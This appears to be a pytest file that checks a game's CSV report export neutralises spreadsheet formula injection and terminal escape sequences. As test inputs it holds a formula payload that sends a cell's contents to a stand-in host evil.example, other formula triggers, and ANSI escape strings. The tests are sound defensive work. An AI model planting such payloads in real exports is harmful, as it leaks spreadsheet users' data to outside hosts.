"""Safe exports: a CSV cell a spreadsheet would run as a formula is written as text, control characters
never reach the file or the terminal raw."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from report_helpers import PROGRAM, ROOT, Clock, best, play_call
from game.records.store import RecordStore
from game.reports.csv_out import safe_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+33 6 12", "'+33 6 12"), ("-5", "'-5"), ("@cmd", "'@cmd"), ("\tx", "'\\tx"),
    ("\rx", "'\\rx"), ("Sam", "Sam"), ("a=b", "a=b"), (42, 42), (-3, -3), (0.5, 0.5), ("", ""),
    ("bad\x1b[2Jname", "bad\\x1b[2Jname"),
])
def test_cells_are_neutralised(value: object, written: object) -> None:
    cell = safe_cell(value)
    if isinstance(cell, str):  # tab and carriage return may be written \t or \x09
        cell = cell.replace("\\x09", "\\t").replace("\\x0d", "\\r")
    assert cell == written


def test_formula_names_are_text_in_the_csv(db: Path, compiled) -> None:
    with RecordStore.open(db, clock=Clock()) as store:
        for name in FORMULAS:
            play_call(store, compiled["sunrise-bakery"], name, best, PROGRAM)
        store.conn.execute("UPDATE trainees SET name = 'Esc\x1b[31m' WHERE name = '+1+1'")  # as an old file may hold
    done = subprocess.run([sys.executable, "-m", "game", "report", "--format", "csv", "--db", str(db)], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    names = {r["trainee"] for r in rows if r["section"] == "trainee"}
    assert names == {"'" + FORMULAS[0], "'-2+3", "'@SUM(A1:A9)", "Esc\\x1b[31m"}
    for row in rows:  # no cell anywhere starts like a formula
        for value in row.values():
            assert not (value or "").startswith(("=", "+", "@", "\t", "\r")), row
            assert not (value or "").startswith("-") or value.lstrip("-").replace(".", "").isdigit(), row
